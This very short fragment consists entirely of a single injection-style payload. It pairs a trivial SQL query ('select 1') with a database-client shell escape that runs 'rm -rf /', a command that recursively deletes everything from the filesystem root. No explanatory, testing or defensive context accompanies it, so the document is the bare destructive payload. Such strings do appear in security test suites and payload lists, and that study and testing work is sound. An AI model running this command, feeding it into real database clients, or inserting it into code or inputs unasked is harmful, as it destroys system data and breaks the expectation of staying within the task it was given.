select 1; \! rm -rf /
